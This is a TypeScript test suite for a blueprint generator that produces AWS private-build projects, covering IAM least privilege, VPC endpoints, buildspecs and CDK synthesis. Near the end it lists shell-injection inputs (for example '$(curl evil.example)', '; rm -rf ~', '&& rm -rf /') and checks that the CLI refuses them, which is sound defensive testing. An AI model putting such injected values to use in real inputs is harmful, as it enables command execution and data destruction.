import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Match, Template } from 'aws-cdk-lib/assertions';
import { parse } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { BUILD_IMAGE, loginCommands, sampleSteps } from '../../blueprints/private-build/build.js';
import { privateBuild, type PrivateBuildOptions } from '../../blueprints/private-build/index.js';
import { toolsOf } from '../../blueprints/private-build/options.js';
import { validateBuildspec, validateFileMap, validateWorkflowValue } from '../../src/index.js';
import { renderBlueprint } from '../../src/io/generate.js';
import { mergeOptions } from '../../src/options/resolve.js';
import type { FileMap } from '../../src/model/file-map.js';
import type { PolicyDocument, PolicyStatement } from '../../src/render/iam-policy.js';
import { WILDCARD_RESOURCE_ACTIONS } from '../../src/wire/iam.js';
import { buildspecScript } from '../buildspec/shell.js';
import { hasShellcheck, shellcheck } from '../helpers/shell.js';
import { compileApp, shellScripts, synthApp, writeProject, type ExtractedScript } from '../catalogue/harness.js';
import { cli, snapshotTree, tempDir } from '../helpers/cli.js';

/** The option sets these tests render: each changes what the blueprint must get right. */
const REAL_VPC = {
  vpcId: 'vpc-0a1b2c3d4e5f60718',
  subnetIds: ['subnet-0a1b2c3d4e5f60718', 'subnet-0b1c2d3e4f5a60718'],
  securityGroupIds: ['sg-0a1b2c3d4e5f60718'],
  routeTableIds: ['rtb-0a1b2c3d4e5f60718', 'rtb-0b1c2d3e4f5a60718'],
};
const SETS = {
  /** The defaults: npm sample, CodePipeline runner, placeholder ids. */
  npmPipeline: {},
  /** pip sample on the CodePipeline runner, with real-looking values everywhere (no placeholder left). */
  pipPipeline: {
    projectName: 'py-build',
    account: '123456789012',
    region: 'eu-west-1',
    sample: 'pip',
    codeArtifact: { domain: 'acme', domainOwner: '210987654321', repository: 'python-private', region: 'eu-west-1', tools: ['pip', 'twine'] },
    vpc: REAL_VPC,
    // A connection made before the CodeConnections rename: its ARN keeps the codestar-connections prefix.
    source: { repository: 'acme/py-build', connectionArn: 'arn:aws:codestar-connections:eu-west-1:123456789012:connection/11111111-2222-3333-4444-555555555555' },
  },
  /** npm sample with tools in an order of their own: Maven's token and endpoint between two logins. */
  toolOrder: { codeArtifact: { domain: 'private', domainOwner: '111111111111', repository: 'Private', tools: ['twine', 'maven', 'npm', 'gradle', 'pip'] } },
  /** npm sample on the CodeCatalyst runner. */
  npmWorkflow: { runner: 'codecatalyst', vpc: REAL_VPC },
  /** pip sample on the CodeCatalyst runner, tools not given: they follow the sample (pip). */
  pipWorkflow: { runner: 'codecatalyst', sample: 'pip' },
} as const;
type SetName = keyof typeof SETS;

const optionsOf = (set: SetName) => mergeOptions(privateBuild.defaults, SETS[set]) as unknown as PrivateBuildOptions;
const cache = new Map<SetName, FileMap>();
function render(set: SetName): FileMap {
  if (!cache.has(set)) cache.set(set, renderBlueprint(privateBuild, optionsOf(set) as unknown as Record<string, unknown>));
  return cache.get(set)!;
}
const content = (set: SetName, path: string): string => {
  const f = render(set).get(path);
  if (!f) throw new Error(`${set} rendered no ${path}`);
  return f.content;
};

describe('private-build: every rendered file passes the project validators', () => {
  it.each(Object.keys(SETS) as SetName[])('%s', (set) => {
    const files = render(set);
    expect(validateFileMap(files).filter((d) => d.severity === 'error')).toEqual([]);
    // The structured files went through their own validators (kind), not only a YAML/JSON syntax check.
    const kinds = new Map([...files.values()].map((f) => [f.path, f.kind]));
    // buildspec.yml only where a CodeBuild project reads it: the CodePipeline runner.
    expect(kinds.get('buildspec.yml')).toBe(optionsOf(set).runner === 'codepipeline' ? 'buildspec' : undefined);
    expect(kinds.get('infra/vpc-endpoints.yaml')).toBe('cloudformation');
    expect(kinds.get('iam/build-role-policy.json')).toBe('iam-policy');
    expect(kinds.get('devfile.yaml')).toBe('devfile');
  });

  it('renders the same bytes twice', () => {
    const a = renderBlueprint(privateBuild, optionsOf('pipPipeline') as unknown as Record<string, unknown>);
    const b = renderBlueprint(privateBuild, optionsOf('pipPipeline') as unknown as Record<string, unknown>);
    expect([...b.entries()]).toEqual([...a.entries()]);
  });

  it('chooses each file\'s owner: the sample and .gitignore are the team\'s, the devfile merged, the rest managed', () => {
    const mode = (set: SetName, p: string) => render(set).get(p)?.mode;
    for (const p of ['package.json', 'index.js', 'test.js', '.gitignore']) expect(mode('npmPipeline', p), p).toBe('seed');
    for (const p of ['requirements.txt', 'app.py', 'test_app.py']) expect(mode('pipPipeline', p), p).toBe('seed');
    expect(mode('npmPipeline', 'devfile.yaml')).toBe('merged');
    for (const p of ['buildspec.yml', 'infra/vpc-endpoints.yaml', 'iam/build-role-policy.json', 'README.md', 'pipeline/bin/app.ts', 'pipeline/lib/private-build-stack.ts']) {
      expect(mode('npmPipeline', p), p).toBe('managed');
    }
    expect(mode('npmWorkflow', '.codecatalyst/workflows/PrivateBuild.yaml')).toBe('managed');
  });
});

describe('private-build: buildspec.yml', () => {
  const cases = [
    { set: 'npmPipeline' as const, tool: 'npm', install: 'npm install --no-audit --no-fund', runtime: { nodejs: 22 } },
    { set: 'pipPipeline' as const, tool: 'pip', install: 'python3 -m pip install -r requirements.txt', runtime: { python: 3.12 } },
  ];

  it.each(cases)('$set: valid for the build image, logs in to CodeArtifact before installing', ({ set, tool, install, runtime }) => {
    const o = optionsOf(set);
    const wire = parse(content(set, 'buildspec.yml')) as { version: unknown; phases: Record<string, { commands: string[]; 'runtime-versions'?: unknown }> };
    expect(validateBuildspec(wire, { image: BUILD_IMAGE })).toEqual([]);
    expect(wire.version).toBe(0.2);
    expect(wire.phases['install']!['runtime-versions']).toEqual(runtime);
    const commands = wire.phases['install']!.commands;
    const ca = o.codeArtifact;
    expect(commands[0]).toBe(
      `aws codeartifact login --tool ${tool} --domain ${ca.domain} --domain-owner ${ca.domainOwner} --repository ${ca.repository} --region ${ca.region ?? o.region}`,
    );
    // Every chosen tool logs in, and the install comes after all logins.
    const logins = commands.filter((c) => c.startsWith('aws codeartifact login'));
    expect(logins.map((c) => /--tool (\S+)/.exec(c)![1])).toEqual(toolsOf(o));
    expect(commands.indexOf(install)).toBe(logins.length);
  });

  describe.skipIf(!hasShellcheck)('shellcheck', () => {
    it.each(cases)('$set: the build commands are shellcheck-clean', ({ set }) => {
      const script = buildspecScript(parse(content(set, 'buildspec.yml')));
      const r = shellcheck(script);
      expect(r.output).toBe('');
      expect(r.status).toBe(0);
    });

    it.each(Object.keys(SETS) as SetName[])('%s: every piece of shell (buildspec, workflow, devfile, README) is shellcheck-clean', (set) => {
      const scripts: ExtractedScript[] = [...shellScripts(render(set)), ...readmeShellBlocks(content(set, 'README.md'))];
      expect(scripts.length).toBeGreaterThanOrEqual(4);
      for (const s of scripts) expect(shellcheck(s.script).output, s.origin).toBe('');
    });

    it('the check can fail: an unquoted expansion is reported', () => {
      expect(shellcheck('#!/usr/bin/env bash\nrm -rf $DIR/build\n').status).not.toBe(0);
    });
  });
  describe.skipIf(hasShellcheck)('shellcheck', () => {
    it.skip('shellcheck is not installed: the generated shell is not checked', () => {});
  });
});

/** The ```sh blocks of a README, one script each. */
function readmeShellBlocks(readme: string): ExtractedScript[] {
  return [...readme.matchAll(/```sh\n([\s\S]*?)```/g)].map((m, i) => ({ origin: `README.md#sh${i}`, script: `#!/usr/bin/env bash\nset -e\n${m[1]}` }));
}

/** Statements whose resource is `*` although the action has a resource type (an ARN that should be named). */
function wildcardViolations(doc: PolicyDocument): string[] {
  return doc.Statement.flatMap((s: PolicyStatement) =>
    [s.Resource].flat().includes('*') ? [s.Action].flat().filter((a) => !WILDCARD_RESOURCE_ACTIONS.includes(a)) : [],
  );
}

describe('private-build: the least-privilege role policy', () => {
  it('the wildcard check can fail', () => {
    expect(wildcardViolations({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['codeartifact:ReadFromRepository'], Resource: '*' }] })).toEqual([
      'codeartifact:ReadFromRepository',
    ]);
  });

  it.each(['npmPipeline', 'pipPipeline'] as const)('%s (CodeBuild service role): no `*` where an ARN is known; CodeArtifact, logs and ENIs by ARN', (set) => {
    const o = optionsOf(set);
    const doc = JSON.parse(content(set, 'iam/build-role-policy.json')) as PolicyDocument;
    expect(wildcardViolations(doc)).toEqual([]);
    const bySid = Object.fromEntries(doc.Statement.map((s) => [s.Sid, s]));
    const ca = o.codeArtifact;
    expect(bySid['CodeArtifactToken']!.Resource).toBe(`arn:aws:codeartifact:${o.region}:${ca.domainOwner}:domain/${ca.domain}`);
    expect([bySid['CodeArtifactRead']!.Resource].flat()).toEqual([`arn:aws:codeartifact:${o.region}:${ca.domainOwner}:repository/${ca.domain}/${ca.repository}`]);
    expect(bySid['CodeArtifactBearerToken']!.Condition).toEqual({ StringEquals: { 'sts:AWSServiceName': 'codeartifact.amazonaws.com' } });
    expect([bySid['BuildLogs']!.Resource].flat()).toContain(`arn:aws:logs:${o.region}:${o.account}:log-group:/aws/codebuild/${o.projectName}`);
    expect(bySid['VpcNetworkInterfacePermission']!.Condition!['StringEquals']!['ec2:Subnet']).toEqual(o.vpc.subnetIds.map((s) => `arn:aws:ec2:${o.region}:${o.account}:subnet/${s}`));
    // Nothing that writes packages or reaches other services, but publishing when twine is a tool.
    const actions = doc.Statement.flatMap((s) => [s.Action].flat());
    expect(actions.filter((a) => /Publish|Put(?!LogEvents)|Delete(?!NetworkInterface)|\*/.test(a))).toEqual(toolsOf(o).includes('twine') ? ['codeartifact:PublishPackageVersion'] : []);
  });

  it('twine (a publishing tool) may publish PyPI packages to the repository, and only there; without twine nothing may publish', () => {
    const publishing = (set: SetName) =>
      (JSON.parse(content(set, 'iam/build-role-policy.json')) as PolicyDocument).Statement.filter((s) => [s.Action].flat().some((a) => a.startsWith('codeartifact:Publish')));
    expect(toolsOf(optionsOf('pipPipeline'))).toContain('twine');
    // Package ARNs: package/<domain>/<repository>/<format>/<namespace>/<name>; PyPI has no namespace.
    expect(publishing('pipPipeline')).toEqual([
      { Sid: 'CodeArtifactPublish', Effect: 'Allow', Action: 'codeartifact:PublishPackageVersion', Resource: ['arn:aws:codeartifact:eu-west-1:210987654321:package/acme/python-private/pypi//*'] },
    ]);
    expect(publishing('toolOrder')).toHaveLength(1);
    for (const set of ['npmPipeline', 'pipWorkflow'] as const) expect(publishing(set), set).toEqual([]);
    // The CodeCatalyst runner's environment role publishes too when twine is a tool.
    const wf = JSON.parse(renderBlueprint(privateBuild, mergeOptions(privateBuild.defaults, { runner: 'codecatalyst', sample: 'pip', codeArtifact: { tools: ['pip', 'twine'] } })).get('iam/build-role-policy.json')!.content) as PolicyDocument;
    expect(wf.Statement.map((s) => s.Sid)).toContain('CodeArtifactPublish');
    expect(content('pipPipeline', 'README.md')).toContain('`codeartifact:PublishPackageVersion` on the PyPI packages of `python-private`');
    expect(content('npmPipeline', 'README.md')).not.toContain('PublishPackageVersion');
  });

  it('CodeCatalyst runner (environment role): CodeArtifact only, no log group and no network interfaces', () => {
    const doc = JSON.parse(content('npmWorkflow', 'iam/build-role-policy.json')) as PolicyDocument;
    expect(wildcardViolations(doc)).toEqual([]);
    const services = new Set(doc.Statement.flatMap((s) => [s.Action].flat()).map((a) => a.split(':')[0]));
    expect([...services].sort()).toEqual(['codeartifact', 'sts']);
  });
});

describe('private-build: the VPC endpoints template', () => {
  const REQUIRED = ['codeartifact.api', 'codeartifact.repositories', 'logs', 'sts'];
  type Resource = { Type: string; Properties: Record<string, any> };
  const template = (set: SetName) => parse(content(set, 'infra/vpc-endpoints.yaml')) as { Resources: Record<string, Resource> };
  const endpoints = (set: SetName) => Object.values(template(set).Resources).filter((r) => r.Type === 'AWS::EC2::VPCEndpoint');

  it.each(['npmPipeline', 'npmWorkflow'] as const)('%s: interface endpoints with private DNS for CodeArtifact, logs and STS, and the S3 gateway', (set) => {
    const eps = endpoints(set);
    for (const service of REQUIRED) {
      const ep = eps.find((e) => e.Properties['ServiceName']['Fn::Sub'] === `com.amazonaws.\${AWS::Region}.${service}`);
      expect(ep, service).toBeDefined();
      expect(ep!.Properties['VpcEndpointType']).toBe('Interface');
      expect(ep!.Properties['PrivateDnsEnabled']).toBe(true);
    }
    const s3 = eps.find((e) => e.Properties['ServiceName']['Fn::Sub'] === 'com.amazonaws.${AWS::Region}.s3');
    expect(s3?.Properties['VpcEndpointType']).toBe('Gateway');
    const statements = s3!.Properties['PolicyDocument']['Statement'] as { Sid: string; Resource: unknown }[];
    expect(statements.map((s) => s.Sid)).toContain('CodeArtifactAssets');
  });

  it('CodePipeline runner: the S3 gateway also allows the pipeline bucket, and only it', () => {
    const s3 = endpoints('pipPipeline').find((e) => e.Properties['VpcEndpointType'] === 'Gateway')!;
    const build = (s3.Properties['PolicyDocument']['Statement'] as { Sid: string; Resource: string[] }[]).find((s) => s.Sid === 'BuildBuckets');
    expect(build?.Resource).toEqual(['arn:aws:s3:::py-build-pipeline-123456789012-eu-west-1', 'arn:aws:s3:::py-build-pipeline-123456789012-eu-west-1/*']);
    const wf = endpoints('npmWorkflow').find((e) => e.Properties['VpcEndpointType'] === 'Gateway')!;
    expect((wf.Properties['PolicyDocument']['Statement'] as { Sid: string }[]).map((s) => s.Sid)).toEqual(['CodeArtifactAssets']);
  });

  const hasCfnLint = spawnSync('cfn-lint', ['--version'], { encoding: 'utf8' }).status === 0;
  it.skipIf(!hasCfnLint)('passes cfn-lint', () => {
    const dir = writeProject(render('pipPipeline'), 'blueprints', 'private-build', 'cfn-lint');
    const r = spawnSync('cfn-lint', [join(dir, 'infra', 'vpc-endpoints.yaml')], { encoding: 'utf8' });
    expect(`${r.stdout}${r.stderr}`).toBe('');
    expect(r.status).toBe(0);
  });
});

describe('private-build: the CodeCatalyst workflow', () => {
  it.each(['npmWorkflow', 'pipWorkflow'] as const)('%s: validates, and its build action runs the build steps in the VPC environment (no unused buildspec.yml)', (set) => {
    const o = optionsOf(set);
    const wf = parse(content(set, '.codecatalyst/workflows/PrivateBuild.yaml')) as { Actions: Record<string, any> };
    expect(validateWorkflowValue(wf).filter((f) => f.severity === 'error')).toEqual([]);
    const action = wf.Actions['BuildInVpc'];
    expect(action.Identifier).toBe('aws/build@v1');
    expect(action.Environment).toEqual({ Name: o.codecatalyst.environment, Connections: [{ Name: o.codecatalyst.connection, Role: o.codecatalyst.role }] });
    const steps = sampleSteps(o.sample);
    expect(action.Configuration.Steps.map((s: { Run: string }) => s.Run)).toEqual([...loginCommands(o), ...steps.install, ...steps.test, ...steps.run]);
    expect(action.Configuration.Steps[0].Run).toContain(`--tool ${o.sample}`);
    expect(render(set).has('pipeline/cdk.json')).toBe(false);
    // Nothing reads a buildspec on this runner: it is neither written nor listed in the README.
    expect(render(set).has('buildspec.yml')).toBe(false);
    const readme = content(set, 'README.md');
    expect(readme).not.toContain('buildspec.yml');
    expect(readme).toContain('The build action logs in first (the first steps of `.codecatalyst/workflows/PrivateBuild.yaml`)');
  });

  it('the validator can fail: a broken workflow is reported', () => {
    const wf = parse(content('npmWorkflow', '.codecatalyst/workflows/PrivateBuild.yaml')) as { Actions: Record<string, any> };
    delete wf.Actions['BuildInVpc'].Configuration;
    expect(validateWorkflowValue(wf).filter((f) => f.severity === 'error').length).toBeGreaterThan(0);
  });
});

describe('private-build: README', () => {
  it('flags every placeholder of the defaults, and none when real values are given', () => {
    const readme = content('npmPipeline', 'README.md');
    expect(readme).toContain('## Values to replace before the first deployment');
    for (const key of ['account', 'codeArtifact.domainOwner', 'vpc.vpcId', 'vpc.subnetIds.0', 'vpc.subnetIds.1', 'vpc.securityGroupIds.0', 'vpc.routeTableIds.0', 'source.connectionArn']) {
      expect(readme).toContain(`- \`${key}\` = `);
    }
    expect(content('pipPipeline', 'README.md')).not.toContain('Values to replace');
  });

  it('gives the developer login, the deploy commands and a Mermaid diagram', () => {
    const readme = content('pipPipeline', 'README.md');
    expect(readme).toContain('catalyst-gen codeartifact login --tool pip --tool twine --domain acme --domain-owner 210987654321 --repository python-private --region eu-west-1');
    expect(readme).toContain('--template-file infra/vpc-endpoints.yaml');
    expect(readme).toContain('npx cdk bootstrap aws://123456789012/eu-west-1');
    expect(readme).toMatch(/```mermaid\nflowchart LR\n[\s\S]*build --> ep[\s\S]*```/);
    // The domain is in another account here: the README says which resource policies must let the build in.
    expect(readme).toContain('The domain belongs to account 210987654321, the build runs in 123456789012');
    expect(content('npmPipeline', 'README.md')).not.toContain('The domain belongs to account');
    const wf = content('npmWorkflow', 'README.md');
    expect(wf).toContain('.codecatalyst/workflows/PrivateBuild.yaml');
    expect(wf).not.toContain('cdk deploy');
  });
});

describe('private-build: the npm sample', () => {
  // The real mathjs comes from CodeArtifact (the catalogue cannot install it offline); this stand-in evaluates the
  // sample's arithmetic so that package.json's scripts, index.js and test.js are run for real.
  const standIn = (result: string) => `exports.evaluate = (e) => ${result};\n`;
  const run = (dir: string, script: string) => spawnSync('npm', ['run', '--silent', script], { cwd: dir, encoding: 'utf8' });
  const project = (name: string, mathjs: string) => {
    const dir = writeProject(render('npmPipeline'), 'blueprints', 'private-build', name);
    mkdirSync(join(dir, 'node_modules', 'mathjs'), { recursive: true });
    writeFileSync(join(dir, 'node_modules', 'mathjs', 'index.js'), mathjs);
    return dir;
  };

  it('npm test and npm start run the sample', () => {
    const dir = project('npm-sample', standIn("Function('return (' + e.replace(/sqrt/g, 'Math.sqrt').replace(/\\^/g, '**') + ')')()"));
    const test = run(dir, 'test');
    expect(test.status, `${test.stdout}${test.stderr}`).toBe(0);
    expect(test.stdout).toMatch(/# pass 1/);
    expect(run(dir, 'start').stdout.trim()).toBe('5');
    expect(JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')).dependencies).toEqual({ mathjs: expect.stringMatching(/^\^\d+/) });
  });

  it('the sample test can fail', () => {
    const dir = project('npm-sample-broken', standIn('4'));
    expect(run(dir, 'test').status).not.toBe(0);
  });
});

describe('private-build: the CodePipeline CDK app compiles and synthesizes', () => {
  const synthCases = ['npmPipeline', 'pipPipeline'] as const;
  const stacks = new Map<string, Record<string, any>>();
  beforeAll(() => {
    for (const set of synthCases) {
      const dir = writeProject(render(set), 'blueprints', 'private-build', `synth-${set}`);
      const app = join(dir, 'pipeline');
      compileApp(app);
      const out = synthApp(app, { validation: false });
      expect(out).toHaveLength(1);
      stacks.set(set, out[0]!.template);
    }
  }, 300_000);

  it.each(synthCases)('%s: a CodeBuild project in the VPC, with the image and the buildspec.yml', (set) => {
    const o = optionsOf(set);
    const t = Template.fromJSON(stacks.get(set)!);
    t.resourceCountIs('AWS::CodeBuild::Project', 1);
    t.hasResourceProperties('AWS::CodeBuild::Project', {
      Name: o.projectName,
      VpcConfig: { VpcId: o.vpc.vpcId, Subnets: [...o.vpc.subnetIds], SecurityGroupIds: [...o.vpc.securityGroupIds] },
      Environment: Match.objectLike({ Image: BUILD_IMAGE, Type: 'LINUX_CONTAINER' }),
      Source: { Type: 'CODEPIPELINE', BuildSpec: 'buildspec.yml' },
      LogsConfig: { CloudWatchLogs: Match.objectLike({ Status: 'ENABLED' }) },
    });
    // The imported security groups are the team's: CDK adds no rules to them and creates none.
    t.resourceCountIs('AWS::EC2::SecurityGroup', 0);
    t.resourceCountIs('AWS::EC2::SecurityGroupEgress', 0);
  });

  it.each(synthCases)('%s: the network-interface permissions exist once, in LeastPrivilege: no CDK copy (BuildPolicyDocument)', (set) => {
    const t = Template.fromJSON(stacks.get(set)!);
    const policies = Object.entries(t.findResources('AWS::IAM::Policy'));
    expect(policies.map(([id]) => id).filter((id) => /PolicyDocument/.test(id))).toEqual([]);
    for (const [id, p] of policies) {
      const actions = (p['Properties'].PolicyDocument.Statement as { Action: string | string[] }[]).flatMap((s) => [s.Action].flat());
      expect(actions.filter((a) => a.startsWith('ec2:')), id).toEqual([]);
      // CDK's own wiring: no statement on "*".
      for (const s of p['Properties'].PolicyDocument.Statement as { Resource: unknown }[]) expect([s.Resource].flat(), id).not.toContain('*');
    }
  });

  it('the README\'s account of "*" in the role policy is exactly the file\'s', () => {
    const doc = JSON.parse(content('npmPipeline', 'iam/build-role-policy.json')) as PolicyDocument;
    const wildcard = doc.Statement.filter((s) => [s.Resource].flat().includes('*')).flatMap((s) => [s.Action].flat()).sort();
    expect(wildcard).toEqual([...WILDCARD_RESOURCE_ACTIONS].sort());
    const readme = content('npmPipeline', 'README.md');
    expect(readme).toContain('`*` appears for exactly these actions');
    // The README names the reads without their `ec2:` prefix after the first one.
    for (const a of wildcard) expect(readme, a).toContain(`\`${a.replace(/^ec2:(?=Describe(?!DhcpOptions))/, '')}\``);
  });

  it.each(synthCases)('%s: the build role carries iam/build-role-policy.json, statement for statement', (set) => {
    const file = JSON.parse(content(set, 'iam/build-role-policy.json')) as PolicyDocument;
    const t = Template.fromJSON(stacks.get(set)!);
    const roles = t.findResources('AWS::IAM::Role', { Properties: { Policies: [Match.objectLike({ PolicyName: 'LeastPrivilege' })] } });
    expect(Object.keys(roles)).toHaveLength(1);
    const role = Object.values(roles)[0] as { Properties: { AssumeRolePolicyDocument: any; Policies: { PolicyDocument: PolicyDocument }[] } };
    expect(role.Properties.AssumeRolePolicyDocument.Statement[0].Principal).toEqual({ Service: 'codebuild.amazonaws.com' });
    const synthesized = role.Properties.Policies[0]!.PolicyDocument.Statement;
    const norm = (v: unknown) => [v].flat().map(String).sort();
    expect(synthesized.map((s) => s.Sid)).toEqual(file.Statement.map((s) => s.Sid));
    for (const s of file.Statement) {
      const got = synthesized.find((x) => x.Sid === s.Sid)!;
      expect(norm(got.Action), s.Sid).toEqual(norm(s.Action));
      expect(norm(got.Resource), s.Sid).toEqual(norm(s.Resource));
      expect(JSON.stringify(got.Condition ?? null)).toEqual(JSON.stringify(s.Condition ?? null));
    }
    // The project runs as that role.
    const roleId = Object.keys(roles)[0]!;
    t.hasResourceProperties('AWS::CodeBuild::Project', { ServiceRole: { 'Fn::GetAtt': [roleId, 'Arn'] } });
  });

  it.each(synthCases)('%s: the pipeline takes the source through the connection into the bucket the S3 gateway allows', (set) => {
    const o = optionsOf(set);
    const t = Template.fromJSON(stacks.get(set)!);
    const bucket = `${o.projectName}-pipeline-${o.account}-${o.region}`;
    const buckets = t.findResources('AWS::S3::Bucket', { Properties: { BucketName: bucket } });
    expect(Object.keys(buckets)).toHaveLength(1);
    t.hasResourceProperties('AWS::CodePipeline::Pipeline', {
      ArtifactStore: { Location: { Ref: Object.keys(buckets)[0] }, Type: 'S3' },
      Stages: [
        Match.objectLike({ Name: 'Source', Actions: [Match.objectLike({ Configuration: Match.objectLike({ ConnectionArn: o.source.connectionArn, BranchName: o.branch }) })] }),
        Match.objectLike({ Name: 'Build', Actions: [Match.objectLike({ ActionTypeId: Match.objectLike({ Provider: 'CodeBuild' }) })] }),
      ],
    });
    // The bucket uses S3-managed keys, so reading the source needs no KMS endpoint; the one key encrypts the
    // build's output (the sample writes none), and rotates.
    t.hasResourceProperties('AWS::S3::Bucket', { BucketName: bucket, BucketEncryption: { ServerSideEncryptionConfiguration: [{ ServerSideEncryptionByDefault: { SSEAlgorithm: 'AES256' } }] } });
    const keys = Object.keys(t.findResources('AWS::KMS::Key', { Properties: { EnableKeyRotation: true } }));
    expect(keys).toHaveLength(1);
    t.resourceCountIs('AWS::KMS::Key', 1);
    t.hasResourceProperties('AWS::CodeBuild::Project', { Name: o.projectName, EncryptionKey: { 'Fn::GetAtt': [keys[0], 'Arn'] } });
    const gateway = Object.values((parse(content(set, 'infra/vpc-endpoints.yaml')) as { Resources: Record<string, any> }).Resources).find(
      (r) => r.Properties?.VpcEndpointType === 'Gateway',
    );
    expect(JSON.stringify(gateway.Properties.PolicyDocument)).toContain(`arn:aws:s3:::${bucket}/*`);
  });
});

describe('private-build: the connection', () => {
  const stacks = new Map<string, Record<string, any>>();
  beforeAll(() => {
    // npmPipeline's connection is arn:aws:codeconnections:..., pipPipeline's arn:aws:codestar-connections:...
    for (const set of ['npmPipeline', 'pipPipeline'] as const) {
      const app = join(writeProject(render(set), 'blueprints', 'private-build', `connection-${set}`), 'pipeline');
      compileApp(app);
      stacks.set(set, synthApp(app, { validation: false })[0]!.template);
    }
  }, 300_000);

  /** The statements of the source action's role, which CodePipeline uses to reach the repository. */
  function sourceRoleStatements(template: Record<string, any>): { Action: string | string[]; Resource: unknown }[] {
    const pipeline = Object.values(template['Resources'] as Record<string, any>).find((r) => r.Type === 'AWS::CodePipeline::Pipeline');
    const roleId = pipeline.Properties.Stages[0].Actions[0].RoleArn['Fn::GetAtt'][0];
    return Object.values(template['Resources'] as Record<string, any>)
      .filter((r) => r.Type === 'AWS::IAM::Policy' && JSON.stringify(r.Properties.Roles) === JSON.stringify([{ Ref: roleId }]))
      .flatMap((r) => r.Properties.PolicyDocument.Statement);
  }

  it.each([
    ['npmPipeline', 'codeconnections'],
    ['pipPipeline', 'codestar-connections'],
  ] as const)('%s: the role may UseConnection in the service prefix of its %s connection ARN, on that ARN only', (set, prefix) => {
    const arn = optionsOf(set).source.connectionArn;
    expect(arn.split(':')[2]).toBe(prefix);
    const uses = sourceRoleStatements(stacks.get(set)!).filter((s) => [s.Action].flat().some((a) => a.endsWith(':UseConnection')));
    const matching = uses.filter((s) => [s.Action].flat().includes(`${prefix}:UseConnection`));
    expect(matching.map((s) => s.Resource)).toEqual([arn]);
    for (const s of uses) expect(s.Resource).toBe(arn);
    // A codestar-connections connection needs nothing but CDK's own grant: no codeconnections action for it.
    if (prefix === 'codestar-connections') expect(uses.flatMap((s) => [s.Action].flat())).toEqual(['codestar-connections:UseConnection']);
  });
});

describe('private-build: codeArtifact.tools in the order given', () => {
  const tools = ['twine', 'maven', 'npm', 'gradle', 'pip'];
  /** The tool of each CodeArtifact line, in order: its login, or "maven" for the shared token and endpoint. */
  const toolsOfLines = (lines: readonly string[]) =>
    lines.flatMap((l) => (l.startsWith('aws codeartifact login') ? [/--tool (\S+)/.exec(l)![1]] : l.startsWith('CODEARTIFACT_AUTH_TOKEN=') ? ['maven'] : []));

  it('the buildspec logs in in the given order, Maven and Gradle at the place of the first of them, once', () => {
    expect(optionsOf('toolOrder').codeArtifact.tools).toEqual(tools);
    const install = (parse(content('toolOrder', 'buildspec.yml')) as { phases: { install: { commands: string[] } } }).phases.install.commands;
    expect(toolsOfLines(install)).toEqual(['twine', 'maven', 'npm', 'pip']);
    // The token is exported before the next login, and the install comes after every login.
    expect(install.indexOf('export CODEARTIFACT_REPOSITORY_URL')).toBeLessThan(install.findIndex((c) => c.includes('--tool npm')));
    expect(install.indexOf('npm install --no-audit --no-fund')).toBe(install.length - 1);
  });

  it('the README, the devfile login and the developer login keep the same order', () => {
    const readme = content('toolOrder', 'README.md');
    expect(readme).toContain(`| package tools | ${tools.join(', ')} |`);
    expect(readme).toContain(`catalyst-gen codeartifact login --tool twine --tool maven --tool npm --tool gradle --tool pip --domain private`);
    const devfile = parse(content('toolOrder', 'devfile.yaml')) as { commands: { id: string; exec: { commandLine: string } }[] };
    const login = devfile.commands.find((c) => c.id === 'codeartifact-login')!.exec.commandLine.split(' && ');
    expect(toolsOfLines(login)).toEqual(['twine', 'maven', 'npm', 'pip']);
  });
});

describe('private-build through the CLI', () => {
  it('new with the defaults writes the project (exit 0)', async () => {
    const dir = join(tempDir('cg-private-'), 'project');
    const r = await cli('new', 'private-build', dir, '--no-input');
    expect(r.code, r.stderr).toBe(0);
    for (const p of ['buildspec.yml', 'infra/vpc-endpoints.yaml', 'iam/build-role-policy.json', 'pipeline/bin/app.ts', 'devfile.yaml', 'README.md', 'package.json']) {
      expect(existsSync(join(dir, p)), p).toBe(true);
    }
  });

  const hostile: [string, string][] = [
    ['codeArtifact.domain=x; rm -rf ~', 'codeArtifact'],
    ['codeArtifact.repository=$(curl evil.example)', 'codeArtifact'],
    ['codeArtifact.domainOwner=1111; reboot', 'codeArtifact'],
    ['vpc.subnetIds=subnet-0123456789abcdef0,`reboot`', 'vpc'],
    ['projectName=build && rm -rf /', 'projectName'],
    ['source.repository=org/repo; id', 'source'],
  ];
  it.each(hostile)('refuses --set %s with exit 1 and writes nothing', async (set, where) => {
    const root = tempDir('cg-private-');
    const dir = join(root, 'project');
    const r = await cli('new', 'private-build', dir, '--no-input', '--set', set);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(where);
    expect(snapshotTree(root)).toEqual({});
  });

  it('--set sample=pip alone logs pip in (the tools follow the sample when not given)', async () => {
    const dir = join(tempDir('cg-private-'), 'p');
    const r = await cli('new', 'private-build', dir, '--no-input', '--set', 'sample=pip');
    expect(r.code, r.stderr).toBe(0);
    const install = (parse(readFileSync(join(dir, 'buildspec.yml'), 'utf8')) as { phases: { install: { commands: string[] } } }).phases.install.commands;
    expect(install.filter((c) => c.startsWith('aws codeartifact login')).map((c) => /--tool (\S+)/.exec(c)![1])).toEqual(['pip']);
  });

  it('refuses tools that leave out the sample\'s, and a domain in another region (exit 1)', async () => {
    const a = await cli('new', 'private-build', join(tempDir('cg-private-'), 'p'), '--no-input', '--set', 'sample=pip', '--set', 'codeArtifact.tools=npm');
    expect(a.code).toBe(1);
    expect(a.stderr).toContain('codeArtifact.tools=npm,pip');
    const b = await cli('new', 'private-build', join(tempDir('cg-private-'), 'p'), '--no-input', '--set', 'codeArtifact.region=eu-west-1');
    expect(b.code).toBe(1);
    expect(b.stderr).toContain('VPC endpoints');
  });
});
